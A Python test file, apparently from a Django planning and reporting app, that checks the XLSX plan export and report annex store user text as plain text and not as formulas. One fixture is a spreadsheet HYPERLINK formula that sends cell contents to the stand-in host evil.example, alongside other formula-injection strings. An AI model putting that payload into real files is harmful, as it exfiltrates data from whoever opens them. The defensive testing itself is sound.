"""No user text becomes a formula in any XLSX we serve (issue 10, defect 2): the plan export, the
coverage matrix and the report annex, each downloaded as a user would and read back."""

from __future__ import annotations

from django.urls import reverse

from apps.plans.models import Task
from apps.tracking.models import ProgressReport
from tests.core.test_xlsx_safe import assert_all_text

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm để xem")'


def test_plan_export_writes_report_text_and_task_content_as_text(client, world, plan_a1):
    Task.objects.filter(pk=plan_a1.t_kt.pk).update(content="=1+2", deadline_text="@SUM(A1)")
    plan_a1.m_nov.report_status = "draft"
    plan_a1.m_nov.save()
    ProgressReport.objects.create(milestone=plan_a1.m_nov, agency=world.kt_a1, text=LINK, percent=10)
    client.force_login(world.officer_a1)
    data = client.get(reverse("tracking:export", args=[plan_a1.plan.pk])).content
    assert_all_text(data, ["=1+2", "@SUM(A1)", LINK])


def test_report_annex_download_writes_results_as_text(client, world, plan_a1):
    from apps.reports import services
    from core.reporting.periods import parse_period

    Task.objects.filter(pk=plan_a1.t_kt.pk).update(content="+1+2", deadline_text="-Tháng 11/2025")
    plan_a1.m_nov.report_status, plan_a1.m_nov.submitted_on = "accepted", plan_a1.m_nov.due
    plan_a1.m_nov.save()
    ProgressReport.objects.create(milestone=plan_a1.m_nov, agency=world.kt_a1, text=LINK, percent=100)
    report = services.open_report(world.officer_a1, world.a1, parse_period("2025-Q4"))
    client.force_login(world.officer_a1)
    data = b"".join(client.get(reverse("reports:download", args=[report.pk, "xlsx"])).streaming_content)
    assert_all_text(data, ["+1+2", "-Tháng 11/2025", LINK])
